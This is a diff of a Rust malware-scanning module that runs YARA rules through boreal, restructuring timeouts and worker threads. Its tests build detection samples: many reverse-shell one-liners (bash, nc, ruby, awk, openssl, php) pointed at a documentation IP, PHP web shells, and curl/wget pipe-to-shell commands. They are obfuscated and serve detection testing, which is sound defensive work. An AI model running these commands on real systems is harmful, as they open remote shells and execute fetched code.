@@ -1,36 +1,35 @@
 //! YARA rules, through boreal: those of the library and our own.
 //!
-//! Rules are foreign programs: a regular expression can take for ever. boreal looks at its clock between matches but not within
-//! one, so the rules of the library have a thread of their own that is waited for up to a deadline; when they miss it they are
-//! given up for the rest of the command, and the thread ends when boreal returns.
+//! Rules are foreign programs: a regular expression can take for ever, and a condition too. boreal looks at its clock between
+//! matches but not within one, so the rules of the library have a thread of their own that is waited for up to a deadline; when they
+//! miss it, the files of rules are tried one by one, and those that miss it alone are given up for the rest of the command. The thread
+//! ends when boreal returns.
 
 mod compile;
+mod library;
 mod pieces;
 mod text;
+mod worker;
 
-use std::fs::File;
-use std::panic::AssertUnwindSafe;
 use std::sync::Arc;
-use std::sync::atomic::{AtomicU64, Ordering};
-use std::sync::mpsc::{Receiver, SyncSender, sync_channel};
+use std::sync::atomic::AtomicU64;
 use std::time::Duration;
 
 use boreal::scanner::{EvaluatedRule, ScanError, ScanParams};
 use boreal::{MetadataValue, Scanner};
 
-use super::{Answer, Engine, Finding, Subject, Trouble, Whole, answer_within};
+use super::{Answer, Engine, Finding, Subject, Trouble, Whole};
 use crate::agent::context::{Meter, Stop};
-use crate::agent::platform::{thread_cpu_since, thread_cpu_time};
 pub use compile::{builtin, compile};
+pub use library::Library;
 use pieces::{Outcome, Pieces};
 use text::SIZE;
+use worker::{Came, Job, Worker};
 
 /// How long a set of rules may look at one thing: so long, and so much more for each megabyte.
 const LOOK: Duration = Duration::from_secs(4);
 const LOOK_A_MEGABYTE: Duration = Duration::from_secs(1);
-/// How much longer it is waited for.
-const GRACE: Duration = Duration::from_secs(10);
-/// Rules that took too long so many times are given up.
+/// Rules that took too long so many times together are given up.
 const MAX_SLOW: u32 = 3;
 /// What a rule weighs that does not say so itself.
 const WEIGHT: u32 = 60;
@@ -57,29 +56,20 @@ pub struct Tally {
     pub done: Arc<AtomicU64>,
 }
 
-/// A set of rules as an engine.
-pub struct Yara {
-    name: &'static str,
+/// Our own rules as an engine. They are known to end: no thread, which costs more than they do on small files.
+pub struct Builtin {
     scanner: Scanner,
     tally: Tally,
-    worker: Option<Worker>,
-    /// Whether they are the library's: findings name the file that a rule stands in.
-    named: bool,
-    /// How many times they took too long.
+}
+
+/// The rules of the library as an engine.
+pub struct Yara {
+    library: Arc<Library>,
+    tally: Tally,
+    /// The thread, and which of the library's sets it has.
+    worker: Option<(usize, Worker)>,
+    /// How many times they took too long together.
     slow: u32,
-}
-
-/// What rules look at.
-struct Job {
-    start: Arc<Vec<u8>>,
-    size: u64,
-    /// The file, and how much of its data is read, where the start is not all.
-    rest: Option<(File, u64)>,
-}
-
-struct Worker {
-    jobs: SyncSender<Job>,
-    answers: Receiver<Looked>,
 }
 
 type Looked = Result<Seen, String>;
@@ -94,45 +84,19 @@ struct Seen {
     passed_over: Vec<String>,
 }
 
-impl Job {
-    fn bytes(&self) -> u64 {
-        self.rest.as_ref().map_or(self.start.len() as u64, |(_, bound)| self.size.min(*bound))
+impl Builtin {
+    /// Those rules, as [`builtin`] made them.
+    #[must_use]
+    pub fn new(scanner: Scanner, tally: Tally) -> Self {
+        Self { scanner, tally }
     }
 }
 
 impl Yara {
-    /// Our own rules.
+    /// Those of a library.
     #[must_use]
-    pub fn builtin(scanner: Scanner, tally: Tally) -> Self {
-        Self { name: "builtin", scanner, tally, worker: None, named: false, slow: 0 }
-    }
-
-    /// The rules of the library.
-    #[must_use]
-    pub fn library(scanner: Scanner, tally: Tally) -> Self {
-        Self { name: "yara", scanner, tally, worker: None, named: true, slow: 0 }
-    }
-
-    fn start(&self) -> Result<Worker, Trouble> {
-        let (jobs, todo) = sync_channel::<Job>(1);
-        let (done, answers) = sync_channel(1);
-        let (mut scanner, tally, name, named) = (self.scanner.clone(), self.tally.clone(), self.name, self.named);
-        let work = move || {
-            while let Ok(job) = todo.recv() {
-                let begun = thread_cpu_time();
-                // The start is let go of before the answer: whoever hears it uses its room again.
-                let looked = std::panic::catch_unwind(AssertUnwindSafe(|| look(&mut scanner, job, &tally, name, named)));
-                let micros = thread_cpu_since(begun).as_micros();
-                tally.meter.cpu_us.fetch_add(u64::try_from(micros).unwrap_or(u64::MAX), Ordering::Relaxed);
-                let looked = looked.unwrap_or_else(|_| Err("boreal failed at it".to_owned()));
-                if done.send(looked).is_err() {
-                    break;
-                }
-            }
-        };
-        let started = std::thread::Builder::new().name("yara".into()).spawn(work);
-        started.map_err(|error| Trouble::Gone(format!("no thread for the rules: {error}")))?;
-        Ok(Worker { jobs, answers })
+    pub fn new(library: Arc<Library>, tally: Tally) -> Self {
+        Self { library, tally, worker: None, slow: 0 }
     }
 }
 
@@ -198,56 +162,98 @@ fn finding(scanner: &Scanner, rule: &EvaluatedRule<'_>, engine: &'static str, na
     }
 }
 
-impl Engine for Yara {
+fn job_of(whole: &Whole<'_>) -> Result<Job, Trouble> {
+    let failed = |error: std::io::Error| Trouble::Here(error.to_string());
+    let rest = whole.rest.map(|rest| rest.file.try_clone().map(|file| (file, rest.bound))).transpose().map_err(failed)?;
+    Ok(Job { start: Arc::clone(&whole.start), size: whole.size, rest })
+}
+
+impl Engine for Builtin {
     fn name(&self) -> &'static str {
-        self.name
+        "builtin"
     }
 
     fn look(&mut self, _subject: &Subject<'_>, whole: &Whole<'_>, _found: &[Finding]) -> Answer {
         if whole.start.is_empty() {
             return Ok(Vec::new());
         }
-        let failed = |error: std::io::Error| Trouble::Here(error.to_string());
-        let rest = whole.rest.map(|rest| rest.file.try_clone().map(|file| (file, rest.bound))).transpose().map_err(failed)?;
-        let job = Job { start: Arc::clone(&whole.start), size: whole.size, rest };
-        let (bytes, patience) = (job.bytes(), patience(job.bytes()));
-        let slow = || format!("its rules took more than {} s for {bytes} bytes", patience.as_secs());
-        let looked = if self.named {
-            let worker = match self.worker.take() {
-                Some(worker) => worker,
-                None => self.start()?,
-            };
-            worker.jobs.send(job).map_err(|_| Trouble::Gone("its thread is gone".to_owned()))?;
-            // Rules that miss their deadline keep the content they have; the others look at it all the same.
-            let Some(looked) = answer_within(&worker.answers, patience + GRACE, &self.tally.stop)? else {
-                return Err(Trouble::Gone(format!("{} and are given up", slow())));
-            };
-            self.worker = Some(worker);
-            looked
-        } else {
-            // Our own rules are known to end: no thread, which costs more than they do on small files.
-            look(&mut self.scanner, job, &self.tally, self.name, self.named)
-        };
+        let job = job_of(whole)?;
+        let bytes = job.bytes();
+        let looked = look(&mut self.scanner, job, &self.tally, "builtin", false);
         if self.tally.stop.asked() {
             return Err(Trouble::Stopped);
         }
         let seen = looked.map_err(Trouble::Here)?;
-        for what in seen.passed_over {
-            whole.pass_over(what);
-        }
-        if seen.slow {
-            self.slow += 1;
-            if self.slow >= MAX_SLOW {
-                return Err(Trouble::Gone(format!("{}, and are given up", slow())));
-            }
-            if seen.findings.is_empty() {
-                return Err(Trouble::Here(slow()));
-            }
-            // What was found by then is true all the same.
-            whole.pass_over(format!("{}: {}", self.name, slow()));
-        }
-        Ok(seen.findings)
+        told(seen, whole, |seen| {
+            let why = format!("builtin: its rules took more than {}", too_long(bytes));
+            if seen.findings.is_empty() { Err(Trouble::Here(why)) } else { Ok(why) }
+        })
     }
+}
+
+impl Engine for Yara {
+    fn name(&self) -> &'static str {
+        "yara"
+    }
+
+    fn look(&mut self, _subject: &Subject<'_>, whole: &Whole<'_>, _found: &[Finding]) -> Answer {
+        if whole.start.is_empty() {
+            return Ok(Vec::new());
+        }
+        let job = job_of(whole)?;
+        let bytes = job.bytes();
+        let first = self.library.set().round;
+        loop {
+            let set = self.library.set();
+            let Some(scanner) = &set.scanner else { return Err(Trouble::Gone(set.lost())) };
+            let worker = match self.worker.take() {
+                Some((round, worker)) if round == set.round => worker,
+                _ => Worker::start(scanner.clone(), self.tally.clone())?,
+            };
+            let came = worker.look(job.again()?, &self.tally)?;
+            let seen = match came {
+                Came::Answer(looked) => {
+                    self.worker = Some((set.round, worker));
+                    Some(looked.map_err(Trouble::Here)?)
+                }
+                Came::Nothing => None,
+            };
+            if self.tally.stop.asked() {
+                return Err(Trouble::Stopped);
+            }
+            let is_slow = seen.as_ref().is_none_or(|seen| seen.slow);
+            if is_slow && self.library.search(&set, &job, &self.tally)? {
+                continue;
+            }
+            for why in set.lost_since(first) {
+                whole.pass_over(format!("yara: {why}"));
+            }
+            let together = || format!("its rules took together more than {}", too_long(bytes));
+            let Some(seen) = seen else { return Err(Trouble::Gone(format!("{}, and are given up", together()))) };
+            let slow = &mut self.slow;
+            return told(seen, whole, |seen| {
+                *slow += 1;
+                match () {
+                    () if *slow >= MAX_SLOW => Err(Trouble::Gone(format!("{}, and are given up", together()))),
+                    () if seen.findings.is_empty() => Err(Trouble::Here(together())),
+                    () => Ok(format!("yara: {}", together())),
+                }
+            });
+        }
+    }
+}
+
+fn too_long(bytes: u64) -> String {
+    format!("{} s for {bytes} bytes", patience(bytes).as_secs())
+}
+
+/// Tells what was seen. `slow` says what there is to say where it ended before its end: what was found by then is true all the same.
+fn told(seen: Seen, whole: &Whole<'_>, slow: impl FnOnce(&Seen) -> Result<String, Trouble>) -> Answer {
+    let why = if seen.slow { Some(slow(&seen)?) } else { None };
+    for what in seen.passed_over.into_iter().chain(why) {
+        whole.pass_over(what);
+    }
+    Ok(seen.findings)
 }
 
 #[cfg(test)]
@@ -284,12 +290,69 @@ mod tests {
         let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat();
         check(&eicar, "eicar_test_file", 100);
         check(&format!("\x7fELF..{eicar}"), "eicar_test_file", 100);
-        let dev = "dev";
-        check(&format!("* * * * * root bash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1"), "reverse_shell", 60);
-        check(&format!("<?php @{}($_{}['x']); ?>", "eval", "POST"), "php_web_shell", 70);
-        check(&format!("{} -s http://192.0.2.7/x.sh | bash", "curl"), "downloads_and_runs", 40);
-        for clean in ["", "text", "echo /dev/tcp", "<?php echo $_POST['x']; ?>", "curl -sSf https://sh.rustup.rs | sh"] {
-            assert_eq!(look_at(&scanner, clean.as_bytes()), [], "{clean}");
+        // Put together here, so that no engine finds this file.
+        let filled =
+            |text: &str| text.replace("DEV", "/dev").replace("IP", "192.0.2.7").replace("GET", "_GET").replace("~", "");
+        let reverse = [
+            "* * * * * root bash -i >& DEV/tcp/IP/4444 0>&1",
+            "sh -i 5<> DEV/tcp/IP/4444 0<&5 1>&5 2>&5",
+            "/bin/bash -l > DEV/tcp/IP/4242 0<&1 2>&1",
+            "nc -e /bin/s~h IP 4444",
+            "ncat IP 4444 -e /bin/s~h",
+            "ncat IP 4444 --exec /bin/ba~sh",
+            "nc -c s~h IP 4444",
+            "nc IP 4444 -c ba~sh",
+            "ruby -rsocket -e 'f=TCP~Socket.open(\"IP\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+            "ruby -rsocket -e 'c=TCP~Socket.new(\"IP\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+            "awk 'BEGIN {s = \"/in~et/tcp/0/IP/4444\"; while(42) { do{ printf \">\" |& s; s |& getline c; \
+             if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'",
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | open~ssl s_client -quiet -connect IP:4444 > /tmp/s; rm /tmp/s",
+            "php -r '$s=fsock~open(\"IP\",4444);exec(\"sh <&3 >&3 2>&3\");'",
+            "php -r '$s=fsock~open(\"IP\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        ];
+        let php = [
+            "<?php @eval($~GET['x']); ?>",
+            "<?=`$~GET[c]`?>",
+            "<?php include $~GET['f'];",
+            "<?php require_once(@$~GET['f']);",
+            "<?php $a='sys'.'tem';$a($~GET['c']);",
+        ];
+        let runs = [
+            "curl -s http://IP/x.sh | bash",
+            "bash -c \"$(cur~l -fsSL http://IP/x)\"",
+            "bash <(cur~l -s http://IP:8080/x)",
+            "eval `wge~t -qO- IP/x`",
+            "wge~t -qO- IP/x|sh",
+        ];
+        for (lines, rule, weight) in
+            [(&reverse[..], "reverse_shell", 60), (&php[..], "php_web_shell", 70), (&runs[..], "downloads_and_runs", 40)]
+        {
+            for line in lines {
+                check(&filled(line), rule, weight);
+                // Much around it hides nothing.
+                let padding = "# nothing is here\n".repeat(60_000);
+                check(&format!("{padding}{}\n{padding}", filled(line)), rule, weight);
+            }
+        }
+        let clean = [
+            "",
+            "text",
+            "echo DEV/tcp",
+            "timeout 1 bash -c \"</dev/tcp/$host/$port\"",
+            "nc -z IP 22 && sh -c true",
+            "sync -c sh; rsync -e ssh a b",
+            "curl -sSf https://sh.rustup.rs | sh",
+            "curl http://IP/data | sort",
+            "bash -c \"$(curl -fsSL https://example.org/install.sh)\"",
+            "echo \"curl 1.2.3.4\"; ls | sh",
+            "<?php echo $~GET['x']; ?>",
+            "<?php // The name is in `$~GET['x']`, as ever.",
+            "<?php include 'a.php'; $x = 'a'.'b'; f($~GET['x']);",
+            "<?php $f = trim($~GET['x']);",
+            "openssl s_client -connect IP:443 < /dev/null",
+        ];
+        for clean in clean {
+            assert_eq!(look_at(&scanner, filled(clean).as_bytes()), [], "{clean}");
         }
     }
 }
